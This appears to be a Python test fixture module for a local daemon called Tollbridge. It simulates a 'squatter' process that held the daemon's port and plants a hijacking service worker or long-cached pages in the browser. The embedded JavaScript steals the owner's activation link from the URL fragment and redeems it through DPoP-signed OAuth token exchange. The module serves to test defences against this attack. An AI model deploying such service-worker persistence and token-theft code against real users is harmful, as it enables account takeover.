"""What a program that held the daemon's port can leave in a browser so as to steal the owner's next activation link."""

import base64

from tests.parts.squatter import Heard, Said

KINDS = ("worker", "worker kept for a day", "document", "script")
"""A service worker as browsers look after them by default; one whose script comes from the browser's cache for a day
(`updateViaCache: "all"`); the dashboard itself in that cache; the dashboard's script in it."""

_THIEF = """
const base64url = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes)))
  .replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
const text = (value) => base64url(new TextEncoder().encode(JSON.stringify(value)));

async function prove({ privateKey, publicKey }, htm, path, token, nonce) {
  const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", publicKey);
  const claims = { htm, htu: location.origin + path, iat: Math.floor(Date.now() / 1000), jti: crypto.randomUUID() };
  if (token) claims.ath = base64url(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(token)));
  if (nonce) claims.nonce = nonce;
  const signed = text({ typ: "dpop+jwt", alg: "ES256", jwk: { kty, crv, x, y } }) + "." + text(claims);
  const algorithm = { name: "ECDSA", hash: "SHA-256" };
  return signed + "." + base64url(await crypto.subtle.sign(algorithm, privateKey, new TextEncoder().encode(signed)));
}

async function send(keys, method, path, { token, body }) {
  let nonce;
  for (let attempt = 0; ; attempt += 1) {
    const headers = { DPoP: await prove(keys, method, path, token, nonce) };
    if (token) headers.Authorization = `DPoP ${token}`;
    const answer = await fetch(path, { method, headers, body });
    nonce = answer.headers.get("DPoP-Nonce");
    if (answer.ok || attempt === 2) return { status: answer.status, ...(await answer.json()) };
  }
}

async function steal() {
  const secret = new URLSearchParams(location.hash.slice(1)).get("activate");
  if (secret === null) return null;
  const keys = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, true, ["sign"]);
  const body = new URLSearchParams({
    grant_type: "urn:ietf:params:oauth:grant-type:token-exchange",
    subject_token: secret,
    subject_token_type: "urn:tollbridge:token-type:activation-link",
    client_id: location.origin,
  });
  const { access_token: token } = await send(keys, "POST", "/oauth/token", { body });
  const { status, version } = await send(keys, "GET", "/v1/status", { token });
  return { status, version };
}
window.loot = steal();
"""
"""Redeems the link in the page's address as our dashboard would, and asks something that only the owner may."""

_PAGE = f"<!doctype html><title>Tollbridge</title><script>{_THIEF}</script>"

_WORKER = """
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  if (event.request.mode !== "navigate") return;
  event.respondWith(new Response(atob("PAGE"), { headers: { "Content-Type": "text/html" } }));
});
"""

_PLANT = """<!doctype html><title>Squatter</title><script>
window.planted = navigator.serviceWorker.register("/worker.js", { scope: "/", updateViaCache: "UPDATE" })
  .then(() => navigator.serviceWorker.ready).then(() => true);
</script>"""

_LOADS = """<!doctype html><title>Squatter</title><script>
window.planted = new Promise((resolve) => addEventListener("load", () => resolve(true)));
</script><script type="module" src="/static/pages/dashboard.js"></script>"""

_KEPT = {"Cache-Control": "max-age=31536000"}
_NOT_KEPT = {"Cache-Control": "no-store"}


def plants(kind: str, heard: Heard) -> Said:
    """Answer as a squatter that leaves ``kind`` behind; its page at ``/`` sets ``planted``."""
    if heard.target == "/worker.js":
        return Said(_worker(), "text/javascript", _KEPT)
    if heard.target == "/static/pages/dashboard.js":
        return Said(_THIEF.encode(), "text/javascript", _KEPT)
    if kind == "document":
        return Said(_PAGE.replace("window.loot", "window.planted = true; window.loot").encode(), "text/html", _KEPT)
    if kind == "script":
        return Said(_LOADS.encode(), "text/html", _NOT_KEPT)
    update = "all" if kind == "worker kept for a day" else "imports"
    return Said(_PLANT.replace("UPDATE", update).encode(), "text/html", _NOT_KEPT)


def _worker() -> bytes:
    return _WORKER.replace("PAGE", base64.b64encode(_PAGE.encode()).decode()).encode()
